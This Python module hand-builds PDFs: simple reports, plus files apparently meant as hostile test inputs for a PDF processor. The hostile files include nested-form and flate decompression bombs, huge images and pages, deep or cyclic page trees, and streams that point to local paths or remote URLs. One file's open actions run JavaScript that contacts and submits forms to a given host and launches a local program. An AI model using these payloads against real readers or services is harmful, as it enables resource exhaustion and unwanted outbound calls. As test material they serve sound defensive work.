"""Small PDFs written by hand: reports of a few lines, and files made to do harm."""

import zlib
from collections.abc import Sequence
from dataclasses import dataclass

A4 = b"[0 0 595 842]"
_FONTS = b"/F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >> "
_BOLD = b"/F2 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>"
FONTS = b"<< /Font << " + _FONTS + _BOLD + b" >> >>"


@dataclass(frozen=True)
class At:
    """Words on a page, in points from its lower left corner."""

    left: float
    up: float
    words: str
    size: float = 12.0
    is_bold: bool = False


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def squeezed(content: bytes, extra: bytes = b"") -> bytes:
    return stream(zlib.compress(content, 9), b"/Filter /FlateDecode " + extra)


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A whole file; the first object is the catalogue, object numbers count from 1."""
    body, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(body))
    return bytes(body) + head + table + end


def drawn(words: Sequence[At]) -> bytes:
    """The content of a page that shows the words."""
    return b"\n".join(
        b"BT /F%d %g Tf %g %g Td (%s) Tj ET" % (1 + each.is_bold, each.size, each.left, each.up, _escaped(each.words))
        for each in words
    )


def _escaped(words: str) -> bytes:
    raw = words.encode("cp1252")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def report(*pages: Sequence[At], page_facts: bytes = b"", catalogue: bytes = b"") -> bytes:
    """Pages of words; `page_facts` and `catalogue` are put into the dictionaries of each page and of the file."""
    return of_contents([stream(drawn(words)) for words in pages], page_facts=page_facts, catalogue=catalogue)


def of_contents(contents: Sequence[bytes], *, page_facts: bytes = b"", catalogue: bytes = b"") -> bytes:
    """Pages that draw these streams, on A4 unless the facts name another size."""
    kids = b" ".join(b"%d 0 R" % (3 + 2 * at) for at in range(len(contents)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox %s /Resources %s >>" % (kids, len(contents), A4, FONTS),
    ]
    for at, content in enumerate(contents):
        objects += [b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R %s >>" % (4 + 2 * at, page_facts), content]
    return pdf(objects)


def nested_forms(depth: int = 9, width: int = 10) -> bytes:
    """A form that draws a form many times, that draws a form ...: 2.5 kB that would take for ever."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox %s >>" % A4,
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
        stream(b"/X Do"),
    ]
    for level in range(depth):
        inner = b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + level)
        objects.append(stream(b"/X Do " * width, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + inner))
    objects.append(
        stream(drawn([At(1, 1, "Children")]), b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources " + FONTS)
    )
    return pdf(objects)


def deep_page_tree(depth: int = 20_000) -> bytes:
    """Page trees within page trees, one child each."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    objects += [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (at + 3) for at in range(depth)]
    return pdf([*objects, b"<< /Type /Page /Parent %d 0 R /MediaBox %s >>" % (depth + 1, A4)])


def cyclic_pages() -> bytes:
    """Page trees that contain each other, and contents and a form that contain themselves."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R 2 0 R] /Count 3 /MediaBox %s >>" % A4,
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 3 0 R >>",
            b"<< /Type /Page /Parent 2 0 R /Contents [5 0 R 4 0 R] /Resources << /XObject << /X 6 0 R >> >> >>",
            stream(b"/X Do"),
            stream(
                b"/X Do",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
            ),
        ]
    )


def encrypted() -> bytes:
    """A file whose password nobody knows."""
    words = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> /ID [<%s> <%s>]"
    whole = report([At(72, 700, "Children are safe.")])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R " + words % (b"ab" * 32, b"cd" * 32, b"01" * 16, b"01" * 16))


def giant_image(side: int = 60_000) -> bytes:
    """A picture of so many pixels a side, from a few bytes."""
    image = squeezed(
        b"\0" * 1_000_000,
        b"/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8 /Width %d /Height %d"
        % (side, side),
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox %s >>" % A4,
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
            stream(b"595 0 0 842 0 0 cm /I Do"),
            image,
        ]
    )


def page_of_letters(letters: int = 10_000_000) -> bytes:
    """One page with that many letters, packed small."""
    line = b"(" + b"children " * 100 + b") Tj T*\n"
    return of_contents([squeezed(b"BT /F1 1 Tf 1 TL 10 800 Td\n" + line * (letters // 900) + b"ET")])


def flate_bomb(megabytes: int = 200) -> bytes:
    """Contents of zeros, packed twice."""
    packer, zeros = zlib.compressobj(1), b"\0" * 1_000_000
    once = b"".join([*(packer.compress(zeros) for _ in range(megabytes)), packer.flush()])
    return of_contents([stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]")])


def acting(host: str, marker: str) -> bytes:
    """A file that asks whoever opens it to run JavaScript, start a program, send a form and open an address."""
    actions = (
        b"<< /S /JavaScript /JS (app.launchURL\\('http://%s/js'\\); this.submitForm\\('http://%s/form'\\);)"
        % (2 * (host.encode(),))
        + b" /Next [ << /S /Launch /F (%s) /Unix << /F (/usr/bin/touch) /P (%s) >> >>" % (2 * (marker.encode(),))
        + b" << /S /URI /URI (http://%s/uri) >> << /S /SubmitForm /F (http://%s/submit) >>" % (2 * (host.encode(),))
        + b" << /S /GoToR /F << /FS /URL /F (http://%s/remote.pdf) >> /D [0 /Fit] >> ] >>" % host.encode()
    )
    annotation = b"/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /PO %s >> >> ]"
    return report(
        [At(72, 700, "Children are safe.")],
        page_facts=b"/AA << /O %s >> " % actions + annotation % (actions, actions),
        catalogue=b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(a) %s] >> >>" % (3 * (actions,)),
    )


def outside_stream(path: str, host: str) -> bytes:
    """Contents that stand in another file, and on another machine."""
    outside = b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % path.encode()
    remote = b"<< /Length 0 /F << /FS /URL /F (http://%s/stream) >> >>\nstream\n\nendstream" % host.encode()
    return of_contents([stream(drawn([At(72, 700, "Children")])), outside, remote])


def huge_page(points: float) -> bytes:
    """A page so many points wide and high."""
    size = b"/MediaBox [0 0 %.0f %.0f]" % (points, points)
    return report([At(72, 700, "Children are safe.")], page_facts=size)
